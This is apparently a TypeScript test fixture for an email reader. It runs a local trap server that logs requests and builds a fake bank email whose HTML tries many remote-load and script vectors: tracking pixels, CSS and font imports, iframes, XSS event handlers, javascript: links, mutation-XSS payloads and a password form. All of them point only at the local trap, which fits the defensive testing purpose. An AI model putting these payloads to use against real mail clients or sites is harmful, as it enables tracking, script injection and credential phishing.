import { createServer } from 'node:http'
import { picture } from '../fixtures/generate/picture.ts'

/** A server that nothing may ever ask: it notes each request, and answers with what would give a visit away. */
export type Trap = { readonly origin: string; readonly hits: readonly string[]; close(): Promise<void> }

export async function openTrap(): Promise<Trap> {
  const hits: string[] = []
  const server = createServer((request, reply) => {
    hits.push(`${request.method} ${request.url}`)
    reply.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end('<title>caught</title>')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (typeof address !== 'object' || address === null) throw new Error('the trap has no port')
  return {
    origin: `http://127.0.0.1:${address.port}`,
    hits,
    close: () =>
      new Promise((resolve) => {
        server.closeAllConnections()
        server.close(() => resolve())
      }),
  }
}

/** of the picture that the message brings itself */
export const ownWidth = 96

/** A message that tries each way there is to call home or to act, all of them leading to `trap`; with one picture that is its own. */
export function hostileMail(trap: string): Buffer {
  const html = `<!doctype html><html><head>
<base href="${trap}/base/">
<meta http-equiv="refresh" content="0; url=${trap}/refresh">
<link rel="stylesheet" href="${trap}/sheet.css"><link rel="preload" as="image" href="${trap}/preload"><link rel="dns-prefetch" href="${trap}">
<style>@import url("${trap}/import.css"); @font-face { font-family: trap; src: url("${trap}/font.woff2") } body { font-family: trap; background: url("${trap}/background") }
@media all { p::before { content: url("${trap}/content") } }</style>
<script>fetch("${trap}/script"); alert(1); top.location = "${trap}/top"</script><script src="${trap}/src.js"></script>
</head><body onload="alert(2)" background="${trap}/body">
<p style="background-image: url(${trap}/inline); list-style: url(&quot;${trap}/list&quot;)">The balance of your account</p>
<img src="${trap}/pixel.gif" srcset="${trap}/set 2x" onerror="alert(3)"><img src="//${trap.slice(7)}/relative"><img src="x" onerror="fetch('${trap}/error')">
<picture><source srcset="${trap}/source"><img alt="" src="cid:own"></picture>
<svg onload="alert(4)"><image href="${trap}/svg" /><use href="${trap}/use#a" /><script>alert(5)</script></svg>
<iframe src="${trap}/frame"></iframe><iframe srcdoc="<script>top.alert(6)</script>"></iframe>
<object data="${trap}/object"></object><embed src="${trap}/embed"><video poster="${trap}/poster" src="${trap}/video" autoplay></video><audio src="${trap}/audio" autoplay></audio>
<form action="${trap}/form" method="post"><input name="password" type="password" value="x"><input type="image" src="${trap}/submit.gif"><button id="go">Confirm</button></form>
<a id="link" href="${trap}/link" target="_blank" ping="${trap}/ping">Pay now</a> <a id="same" href="${trap}/same">here</a> <a id="script" href="javascript:alert(7)">or here</a>
<table background="${trap}/table"><tr><td background="${trap}/cell">x</td></tr></table>
<math><mtext><style><img src=x onerror=alert(8)></style></mtext></math><noscript><p title="</noscript><img src=${trap}/mutation onerror=alert(9)>"></noscript>
</body></html>`
  const lines = [
    'Received: from mail.bank.example (mail.bank.example [203.0.113.9]) by mx.desk.example with ESMTP; Tue, 03 Mar 2026 09:14:02 +0000',
    'From: "Your bank" <service@bank.example>',
    'To: reader@desk.example',
    'Subject: A message that wants out',
    'Date: Tue, 03 Mar 2026 09:14:00 +0000',
    'Message-ID: <trap@bank.example>',
    'MIME-Version: 1.0',
    'Content-Type: multipart/related; boundary="edge"',
    '',
    '--edge',
    'Content-Type: text/html; charset=utf-8',
    '',
    html,
    '--edge',
    'Content-Type: image/png; name="own.png"',
    'Content-Transfer-Encoding: base64',
    'Content-ID: <own>',
    'Content-Disposition: inline; filename="own.png"',
    '',
    picture(ownWidth, 64, 3).toString('base64'),
    '--edge--',
    '',
  ]
  return Buffer.from(lines.join('\n').replaceAll('\n', '\r\n'))
}
